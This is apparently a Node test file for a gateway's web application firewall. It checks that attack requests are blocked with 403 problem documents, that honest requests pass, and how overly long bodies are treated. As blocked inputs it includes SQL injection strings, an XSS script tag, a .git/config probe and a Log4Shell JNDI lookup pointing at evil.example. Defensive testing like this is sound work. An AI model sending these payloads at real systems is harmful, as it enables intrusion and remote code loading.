import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { fieldOf } from '../support/answer-parser.ts';
import { type Gateway, simpleConfig, startGateway } from '../support/gateway.ts';
import { exchange } from '../support/raw-client.ts';
import { startRecordingUpstream } from '../support/recording-upstream.ts';

/** Started without any configuration: the demo is behind it. */
let gateway: Gateway;

before(async () => {
  gateway = await startGateway();
});

after(async () => {
  assert.equal(await gateway.stop(), 0);
});

async function ask(line: string, body = '', type = 'application/json', to: Gateway = gateway) {
  const fields = body === '' ? '' : `Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body)}\r\n`;
  const head = Buffer.from(`${line} HTTP/1.1\r\nHost: localhost\r\n${fields}\r\n`);
  const { answers } = await exchange({ port: to.http, segments: [head, Buffer.from(body)] });
  return answers[0] ?? assert.fail('no answer');
}

test('without a configuration attacks get 403 and a problem document', async () => {
  const requests: readonly (readonly [string, string?])[] = [
    ['GET /items?id=1%27%20OR%20%271%27=%271'],
    ['GET /items?q=%3Cscript%3Ealert(1)%3C/script%3E'],
    ['GET /.git/config'],
    ['POST /echo', JSON.stringify({ name: '$\u007bjndi:ldap://evil.example/a}' })],
  ];
  for (const [line, body] of requests) {
    const from = gateway.lines.length;
    const answer = await ask(line, body);
    assert.equal(answer.status, 403, line);
    assert.equal(fieldOf(answer, 'content-type'), 'application/problem+json');
    const problem = JSON.parse(answer.body.toString()) as Record<string, unknown>;
    assert.match(String(problem.type), /waf-blocked$/);
    const logged = await gateway.line(line, (one) => one.status === 403, from);
    assert.match(JSON.stringify(logged.waf), /"blocked".*800\d{4}/);
  }
});

test('without a configuration honest requests pass', async () => {
  assert.equal((await ask("GET /items?author=O'Brien&q=select%20a%20union%20representative")).status, 200);
  const echoed = await ask('POST /echo', '{"comment":"It\'s 1 of 2 or 3; drop me a line & see <b>this</b>"}');
  assert.equal(echoed.status, 200);
  assert.match(echoed.body.toString(), /drop me a line/);
});

test('a body that is too long to be inspected goes on, unless somebody asked for rules', async () => {
  const upstream = await startRecordingUpstream();
  const plain = await startGateway({ config: simpleConfig(upstream.port, { threads: 1 }) });
  const strict = await startGateway({
    config: simpleConfig(upstream.port, { threads: 1, waf: { requestBodyOver: 'refuse' } }),
  });
  try {
    const long = 'a'.repeat(300_000);
    assert.equal((await ask('POST /upload', long, 'application/octet-stream', plain)).status, 200);
    assert.equal(
      (await ask('POST /upload', `id=1'+or+1=1--+&a=${long}`, 'application/x-www-form-urlencoded', plain)).status,
      403,
    );
    assert.equal((await ask('POST /upload', long, 'application/octet-stream', strict)).status, 413);
  } finally {
    assert.deepEqual([await plain.stop(), await strict.stop()], [0, 0]);
    await upstream.close();
  }
});
